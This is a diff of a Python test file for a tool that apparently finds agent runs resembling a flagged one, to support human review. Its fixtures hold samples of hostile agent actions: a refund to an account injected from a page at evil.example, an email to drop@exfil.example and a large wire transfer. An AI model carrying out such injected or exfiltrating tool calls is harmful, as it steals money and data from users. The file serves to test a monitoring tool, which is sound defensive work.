@@ -3,6 +3,7 @@ from datetime import timedelta
 
 import pytest
 
+from bot.domain.base import Json
 from bot.domain.effect import Origin
 from bot.domain.profile import SimilarKind
 from bot.engine.alikes import Alikes, Found, changes_of
@@ -15,12 +16,13 @@ EVERY = timedelta(seconds=60)
 INJECTED = Origin(argument="account", value="GB99EVIL", source="web page https://evil.example/a", content="c" * 32)
 OTHER_PAGE = Origin(argument="account", value="GB11FINE", source="web page https://shop.example/b", content="d" * 32)
 
+TWICE: tuple[str, dict[str, Json]] = ("issue_refund", {"order_id": "ord_7x", "note": "n"})
 FAMILIES: dict[str, Planted] = {
     "one reason": Planted(calls=(("issue_refund", {"reason": "goodwill gesture"}),)),
     "one account": Planted(calls=(("issue_refund", {"account": "LT00 1111 2222 3333"}),)),
     "one outside domain": Planted(calls=(("send_email", {"to": "drop@exfil.example", "subject": "data"}),)),
     "another tool": Planted(calls=(("wire_money", {"iban": "GB1", "amount": 9000, "mode": "instant"}),)),
-    "repeated": Planted(calls=(("issue_refund", {"order_id": "ord_7x", "note": "n"}),) * 2),
+    "repeated": Planted(calls=(TWICE, TWICE)),
     "injected": Planted(calls=(("issue_refund", {"account": "GB99EVIL"}),), origins=(INJECTED,)),
     "stale": Planted(documents={"policy.md": "v2"}),
     "check": Planted(served="gpt-x-2026-08-01", failed_check="policy adherence"),
@@ -110,7 +112,10 @@ async def test_runs_of_other_agents_with_the_same_tool_are_found(store: Store) -
 
 async def test_with_few_runs_only_failed_ones_that_are_alike_in_all_count(store: Store) -> None:
     """How values vary is not known yet, so a person is not sent after coincidences."""
-    call = ("issue_refund", {"amount": 900, "reason": "goodwill", "currency": "EUR", "account": "DE0"})
+    call: tuple[str, dict[str, Json]] = (
+        "issue_refund",
+        {"amount": 900, "reason": "goodwill", "currency": "EUR", "account": "DE0"},
+    )
     wrong = Planted(calls=(call,), error="Timeout")
     await fill(store.run_index, range(12), {4: wrong, 7: wrong})
     found = await look(store.run_index, 13, wrong)
